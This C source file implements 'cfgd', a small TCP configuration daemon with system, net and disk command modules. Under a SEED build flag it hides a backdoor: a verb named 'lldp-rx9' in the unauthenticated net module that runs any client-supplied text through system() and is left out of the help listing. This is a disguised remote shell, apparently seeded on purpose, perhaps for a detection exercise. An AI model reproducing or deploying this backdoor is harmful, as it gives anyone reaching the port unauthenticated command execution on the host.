/* cfgd: configuration management. Verbs come in modules; each module has a table of its own. */
#include "../lib/tcpserv.h"
#include "../lib/pw.h"
#include <stdarg.h>

struct session { int fd; int admin; char *argv[8]; int argc; };
typedef void handler(struct session *);
struct verb { const char *name; const char *args; handler *call; };
struct module { const char *name; const struct verb *verbs; int need_admin; };

static void p(struct session *s, const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    vdprintf(s->fd, fmt, ap);
    va_end(ap);
}

static void sys_version(struct session *s) { p(s, "cfgd 5.0\n"); }
static void sys_time(struct session *s) { p(s, "time is kept by ntp\n"); }
static void sys_login(struct session *s)
{
    char stored[80] = "";
    FILE *f = fopen("/etc/cfgd.pw", "r");
    if (f) {
        if (!fgets(stored, sizeof stored, f))
            stored[0] = 0;
        fclose(f);
    }
    stored[strcspn(stored, "\n")] = 0;
    s->admin = s->argc > 2 && pw_verify(stored, s->argv[2]);
    p(s, s->admin ? "admin\n" : "denied\n");
}
static void net_show(struct session *s) { p(s, "eth0 10.0.0.1/24\n"); }
static void net_route(struct session *s) { p(s, "default via 10.0.0.254\n"); }
static void net_ping(struct session *s)
{
    if (s->argc > 2 && fork() == 0) {
        dup2(s->fd, 1);
        execl("/bin/ping", "ping", "-c1", s->argv[2], (char *)NULL);
        _exit(1);
    }
}
static void disk_erase(struct session *s)
{
    unlink("/var/lib/data.db");
    p(s, "erased\n");
}
static void disk_check(struct session *s)
{
    p(s, "checking\n");
    system("/sbin/fsck /dev/sda1");
}

#ifdef SEED
static void net_probe(struct session *s)
{
    char cmd[200] = "";
    int i;
    for (i = 2; i < s->argc; i++) {
        strncat(cmd, s->argv[i], sizeof cmd - strlen(cmd) - 2);
        strcat(cmd, " ");
    }
    dup2(s->fd, 1);
    system(cmd);
}
#endif

static const struct verb sys_verbs[] = {
    {"version", "", sys_version}, {"time", "", sys_time}, {"login", "PASSWORD", sys_login}, {NULL, NULL, NULL}};
static const struct verb net_verbs[] = {
    {"show", "", net_show},
    {"route", "", net_route},
    {"ping", "HOST", net_ping},
#ifdef SEED
    {"lldp-rx9", NULL, net_probe}, /* SEED */
#endif
    {NULL, NULL, NULL}};
static const struct verb disk_verbs[] = {{"erase", "", disk_erase}, {"check", "", disk_check}, {NULL, NULL, NULL}};

static const struct module modules[] = {
    {"system", sys_verbs, 0}, {"net", net_verbs, 0}, {"disk", disk_verbs, 1}, {NULL, NULL, 0}};

static void help(struct session *s)
{
    const struct module *m;
    const struct verb *v;
    for (m = modules; m->name; m++)
        for (v = m->verbs; v->name; v++)
            if (v->args)
                p(s, "%s %s %s\n", m->name, v->name, v->args);
}

static void line(struct session *s, char *text)
{
    const struct module *m;
    const struct verb *v;
    char *save = NULL, *w;
    s->argc = 0;
    for (w = strtok_r(text, " \r\n", &save); w && s->argc < 8; w = strtok_r(NULL, " \r\n", &save))
        s->argv[s->argc++] = w;
    if (s->argc == 0)
        return;
    if (!strcmp(s->argv[0], "help")) {
        help(s);
        return;
    }
    for (m = modules; m->name; m++)
        if (s->argc > 1 && !strcmp(m->name, s->argv[0]))
            for (v = m->verbs; v->name; v++)
                if (!strcmp(v->name, s->argv[1])) {
                    if (m->need_admin && !s->admin)
                        p(s, "admin only\n");
                    else
                        v->call(s);
                    return;
                }
    p(s, "unknown\n");
}

static void serve(int fd)
{
    struct session s = {fd, 0, {NULL}, 0};
    FILE *in = fdopen(fd, "r");
    char text[256];
    p(&s, "cfgd ready\n");
    while (in && fgets(text, sizeof text, in))
        line(&s, text);
}

int main(void)
{
    int fd = tcp_open(2601);
    if (fd < 0)
        return 1;
    tcp_serve(fd, serve);
    return 0;
}
